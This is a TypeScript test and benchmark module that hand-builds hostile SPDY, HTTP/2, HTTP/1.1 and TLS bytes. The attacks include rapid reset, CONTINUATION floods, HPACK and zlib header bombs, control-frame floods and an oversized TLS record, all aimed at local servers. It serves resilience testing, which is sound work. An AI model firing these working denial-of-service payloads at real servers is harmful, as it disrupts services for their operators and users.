/**
 * Hostile bytes, per protocol, for the attacks of issue 11 that bench/hostile.ts runs against this server, Node's
 * http2 and Fastify HTTP/1.1 (test/hostile/ uses the SPDY ones through harness.ts). Each builder returns what one
 * write puts on the wire; stateful ones (SPDY header compression, stream ids) are per connection: make one per
 * socket. HTTP/2 frames are laid out by hand from RFC 9113 section 4.1 (9-byte header) and header blocks as HPACK
 * literals (RFC 7541 section 6.2.2, no Huffman), so no HTTP/2 library's own limits shape the attack.
 */
import tls from 'node:tls'
import net from 'node:net'
import { FrameEncoder, type HeaderList } from '../../lib/codec'
import { requestHeaderList } from '../../lib/session/headers'

// ---- SPDY/3.1 (our encoder: the compression context must be the connection's) ----

/** One SPDY/3.1 attacker connection's frames. */
export class SpdyAttack {
  private readonly enc = new FrameEncoder({ version: 3 })
  private nextId = 1
  constructor (readonly authority = '127.0.0.1') {}

  private head (path: string, extra: HeaderList = []): HeaderList {
    return [...requestHeaderList(3.1, { method: 'GET', path, authority: this.authority, scheme: 'http' }), ...extra]
  }

  private syn (fin: boolean, headers: HeaderList): Buffer {
    const id = this.nextId
    this.nextId += 2
    return Buffer.from(this.enc.encode({ type: 'SYN_STREAM', streamId: id, associatedStreamId: 0, priority: 0, slot: 0, fin, unidirectional: false, headers }))
  }

  /** `n` SETTINGS frames, one entry each (SPDY/3 section 2.6.4). */
  settings (n: number): Buffer {
    const one = this.enc.encode({ type: 'SETTINGS', clearSettings: false, entries: [{ id: 4, flags: 0, value: 100 }] })
    return Buffer.concat(Array.from({ length: n }, () => one))
  }

  /** `n` PINGs with client (odd) ids, each of which the server must echo (SPDY/3 section 2.6.5). */
  pings (n: number): Buffer {
    return Buffer.concat(Array.from({ length: n }, (_, i) => this.enc.encode({ type: 'PING', id: (2 * i + 1) >>> 0 })))
  }

  /** `n` session WINDOW_UPDATEs of 1 byte (SPDY/3.1 section 2.6.8). */
  windowUpdates (n: number): Buffer {
    const one = this.enc.encode({ type: 'WINDOW_UPDATE', streamId: 0, deltaWindowSize: 1 })
    return Buffer.concat(Array.from({ length: n }, () => one))
  }

  /** `n` SYN_STREAM + RST_STREAM CANCEL pairs in one write (rapid reset). */
  rapidReset (n: number): Buffer {
    const out: Uint8Array[] = []
    for (let i = 0; i < n; i++) {
      const id = this.nextId
      out.push(this.syn(true, this.head('/small')), this.enc.encode({ type: 'RST_STREAM', streamId: id, status: 5 }))
    }
    return Buffer.concat(out)
  }

  /** First call: a stream left open; then `n` HEADERS frames on it with `bytes` of header value each. */
  headersFlood (n: number, bytes = 16_000): Buffer {
    const out: Uint8Array[] = []
    if (this.nextId === 1) out.push(this.syn(false, this.head('/small')))
    for (let i = 0; i < n; i++) out.push(this.enc.encode({ type: 'HEADERS', streamId: 1, fin: false, headers: [[`x-flood-${i % 16}`, 'h'.repeat(bytes)]] }))
    return Buffer.concat(out)
  }

  /** `n` streams whose head carries a 60,000-byte value that deflates to ~100 bytes (a zlib bomb). */
  zlibBomb (n: number): Buffer {
    return Buffer.concat(Array.from({ length: n }, () => this.syn(true, this.head('/small', [['x-bomb', 'a'.repeat(60_000)]]))))
  }

  /** One stream whose head has `pairs` header pairs. */
  manyPairs (pairs = 10_000): Buffer {
    return this.syn(true, this.head('/small', Array.from({ length: pairs }, (_, i) => [`x-h${i}`, 'v'] as [string, string])))
  }
}

// ---- HTTP/2 (hand-made frames) ----

export const H2_PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), h2Frame(4, 0, 0, Buffer.alloc(0))])

/** An HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload (RFC 9113 section 4.1). */
export function h2Frame (type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9)
  h.writeUIntBE(payload.length, 0, 3)
  h[3] = type
  h[4] = flags
  h.writeUInt32BE(streamId & 0x7fffffff, 5)
  return Buffer.concat([h, payload])
}

/** An HPACK integer with an n-bit prefix (RFC 7541 section 5.1), `first` holding the pattern bits above it. */
function hpackInt (value: number, prefixBits: number, first: number): number[] {
  const max = (1 << prefixBits) - 1
  if (value < max) return [first | value]
  const out = [first | max]
  value -= max
  while (value >= 128) { out.push((value & 127) | 128); value >>>= 7 }
  out.push(value)
  return out
}

const hpackString = (s: string): Buffer => Buffer.concat([Buffer.from(hpackInt(Buffer.byteLength(s), 7, 0)), Buffer.from(s)])

/** Literal header fields with a new name: without indexing (0x00), or with incremental indexing (0x40). */
export function hpackLiterals (headers: HeaderList, index = false): Buffer {
  return Buffer.concat(headers.flatMap(([n, v]) => [Buffer.from([index ? 0x40 : 0x00]), hpackString(n), hpackString(v)]))
}

const H2_HEAD: HeaderList = [[':method', 'GET'], [':scheme', 'http'], [':authority', '127.0.0.1'], [':path', '/small']]
const END_STREAM = 0x1
const END_HEADERS = 0x4

/** One HTTP/2 attacker connection's frames (client stream ids 1, 3, 5...). */
export class H2Attack {
  private nextId = 1

  /** `n` empty SETTINGS frames, each of which the server must acknowledge. */
  settings (n: number): Buffer { return Buffer.concat(Array.from({ length: n }, () => h2Frame(4, 0, 0, Buffer.alloc(0)))) }

  /** `n` connection WINDOW_UPDATEs of 1 byte. */
  windowUpdates (n: number): Buffer {
    const p = Buffer.alloc(4)
    p.writeUInt32BE(1)
    return Buffer.concat(Array.from({ length: n }, () => h2Frame(8, 0, 0, p)))
  }

  /** `n` PINGs, each of which the server must answer. */
  pings (n: number): Buffer { return Buffer.concat(Array.from({ length: n }, (_, i) => { const p = Buffer.alloc(8); p.writeUInt32BE(i, 4); return h2Frame(6, 0, 0, p) })) }

  /** `n` HEADERS + RST_STREAM CANCEL pairs (CVE-2023-44487). */
  rapidReset (n: number): Buffer {
    const block = hpackLiterals(H2_HEAD)
    const cancel = Buffer.from([0, 0, 0, 8])
    const out: Buffer[] = []
    for (let i = 0; i < n; i++) {
      const id = this.nextId
      this.nextId += 2
      out.push(h2Frame(1, END_STREAM | END_HEADERS, id, block), h2Frame(3, 0, id, cancel))
    }
    return Buffer.concat(out)
  }

  /** First call: HEADERS without END_HEADERS; then `n` CONTINUATION frames of `bytes` each (CVE-2024-27316). */
  headersFlood (n: number, bytes = 16_000): Buffer {
    const out: Buffer[] = []
    if (this.nextId === 1) { out.push(h2Frame(1, END_STREAM, 1, hpackLiterals(H2_HEAD))); this.nextId = 3 }
    const block = hpackLiterals([['x-flood', 'h'.repeat(bytes)]])
    for (let i = 0; i < n; i++) out.push(h2Frame(9, 0, 1, block))
    return Buffer.concat(out)
  }

  /**
   * An HPACK bomb (CVE-2016-6581): the first block puts a 4,000-byte header in the dynamic table, then each stream's
   * block names it by index (one byte) 4,000 times: 16 MB of header per 4 KB frame.
   */
  zlibBomb (n: number): Buffer {
    const out: Buffer[] = []
    for (let i = 0; i < n; i++) {
      const id = this.nextId
      this.nextId += 2
      const insert = id === 1 ? hpackLiterals([['x-bomb', 'a'.repeat(4000)]], true) : Buffer.alloc(0)
      out.push(h2Frame(1, END_STREAM | END_HEADERS, id, Buffer.concat([hpackLiterals(H2_HEAD), insert, Buffer.alloc(4000, 0x80 | 62)])))
    }
    return Buffer.concat(out)
  }

  /** One stream whose head has `pairs` header fields (HEADERS then CONTINUATIONs of at most 16 KB). */
  manyPairs (pairs = 10_000): Buffer {
    const id = this.nextId
    this.nextId += 2
    const block = Buffer.concat([hpackLiterals(H2_HEAD), hpackLiterals(Array.from({ length: pairs }, (_, i) => [`x-h${i}`, 'v'] as [string, string]))])
    const out: Buffer[] = []
    for (let o = 0; o < block.length; o += 16_384) {
      const last = o + 16_384 >= block.length
      out.push(h2Frame(o === 0 ? 1 : 9, (o === 0 ? END_STREAM : 0) | (last ? END_HEADERS : 0), id, block.subarray(o, o + 16_384)))
    }
    return Buffer.concat(out)
  }
}

// ---- HTTP/1.1 ----

/** A request head that never ends: header lines of `bytes` each. */
export const http1HeaderLines = (n: number, bytes = 1000): Buffer => Buffer.from(`x-flood: ${'h'.repeat(bytes)}\r\n`.repeat(n))
/** A GET with `pairs` header lines. */
export const http1ManyPairs = (pairs = 10_000): Buffer =>
  Buffer.from(`GET /small HTTP/1.1\r\nHost: 127.0.0.1\r\n${Array.from({ length: pairs }, (_, i) => `x-h${i}: v\r\n`).join('')}\r\n`)

// ---- TLS ----

/** The ClientHello Node's TLS client sends with these ALPN protocols, captured on a local socket. */
export async function clientHello (alpn: string[] = ['spdy/3.1']): Promise<Buffer> {
  const srv = net.createServer()
  await new Promise<void>((resolve) => srv.listen(0, '127.0.0.1', resolve))
  const port = (srv.address() as net.AddressInfo).port
  const got = new Promise<Buffer>((resolve) => srv.once('connection', (c) => c.once('data', (b: Buffer) => { resolve(b); c.destroy() })))
  const cl = tls.connect({ host: '127.0.0.1', port, servername: 'localhost', ALPNProtocols: alpn, rejectUnauthorized: false })
  cl.on('error', () => {})
  const hello = await got
  cl.destroy()
  srv.close()
  return hello
}

/**
 * A handshake record announcing 2^16-1 bytes, past the 2^14 + 2048 any TLS record may carry (RFC 5246 section
 * 6.2.3), followed by that many bytes.
 */
export const oversizedRecord = (): Buffer => Buffer.concat([Buffer.from([22, 3, 3, 0xff, 0xff]), Buffer.alloc(0xffff, 0x41)])
